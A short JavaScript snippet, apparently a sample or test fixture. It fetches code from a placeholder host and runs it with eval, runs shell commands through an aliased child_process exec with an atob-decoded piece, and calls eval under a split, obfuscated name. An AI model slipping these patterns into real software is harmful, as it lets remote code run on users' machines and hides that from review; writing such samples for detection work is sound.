const { exec: e, ...rest } = require('child_process');
fetch(`https://a.invalid/${x}`).then(async r => eval(await r.text()));
class A { constructor(a = 1) { this.x = a; } m() { e(this.x + atob('aQ==')); } }
globalThis['ev' + 'al'](String.fromCharCode(97, 98));
